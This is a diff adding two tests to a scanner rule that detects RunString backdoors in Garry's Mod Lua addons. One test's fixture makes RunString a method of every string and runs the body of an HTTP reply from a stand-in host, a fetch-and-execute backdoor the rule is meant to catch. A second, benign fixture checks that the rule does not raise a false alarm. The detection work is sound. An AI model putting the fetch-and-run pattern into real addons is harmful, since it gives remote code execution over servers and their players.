@@ -403,4 +403,25 @@ describe('runstring', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('RunString made a method of every string, run on a web reply', () => {
+    for (const added of ['string.run = RunString', 'getmetatable("").__index.run = RunString']) {
+      const findings = check(rule, {
+        'lua/autorun/server/sv_x.lua': [
+          added,
+          'http.Fetch("https://x.invalid/m", function(b) b:run() end)',
+        ].join('\n'),
+      });
+      expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+    }
+  });
+  it('a helper added to every string, used on a web reply (benign)', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'function string.squish(s) return (s:gsub("%s+", " ")) end',
+        'getmetatable("").__index.shout = string.upper',
+        'http.Fetch("https://x.invalid/motd", function(b) print(b:squish():shout()) end)',
+      ].join('\n'),
+    });
+    expect(findings).toEqual([]);
+  });
 });
